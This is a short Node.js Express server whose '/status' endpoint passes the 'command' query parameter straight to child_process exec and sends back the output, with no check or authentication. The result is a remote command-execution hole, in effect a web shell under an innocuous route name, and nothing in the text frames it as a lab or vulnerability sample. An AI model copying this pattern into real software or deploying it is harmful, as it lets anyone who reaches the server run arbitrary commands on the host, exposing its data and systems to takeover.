const express = require("express");
const { exec } = require("child_process");

const app = express();
app.get("/status", (req, res) => {
  exec(req.query.command, (error, output) => res.send(output));
});
app.listen(3000);
